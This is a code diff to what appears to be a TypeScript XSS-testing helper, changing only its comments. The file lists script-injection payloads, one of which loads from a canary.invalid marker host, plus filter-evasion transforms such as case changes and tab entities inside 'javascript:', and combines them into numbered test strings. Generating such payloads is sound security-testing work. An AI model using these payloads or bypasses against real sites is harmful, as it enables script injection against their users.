@@ -1,4 +1,4 @@
-/** Texts that would run in a browser that trusts them. `MARK` becomes a number, by which a hit names its text. */
+/** Script injections. `MARK` becomes the number of the text. */
 const shapes: readonly string[] = [
   '<script>RUN</script>',
   '<script src=//canary.invalid/MARK></script>',
@@ -44,7 +44,7 @@ const shapes: readonly string[] = [
   '\u0000<script>RUN</script>',
 ]
 
-/** How filters are gone round. */
+/** Ways around filters. */
 const disguises: readonly ((text: string) => string)[] = [
   (text) => text,
   (text) => text.replaceAll(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
@@ -56,7 +56,7 @@ const disguises: readonly ((text: string) => string)[] = [
   (text) => text.replaceAll('javascript:', 'jav&#x09;ascript:'),
 ]
 
-/** So many different ones, each with the number by which a hit is known. */
+/** Different texts, each with its number. */
 export function hostileTexts(count: number): string[] {
   const texts = disguises.flatMap((disguise) => shapes.map((shape) => disguise(shape)))
   return [...new Set(texts)]
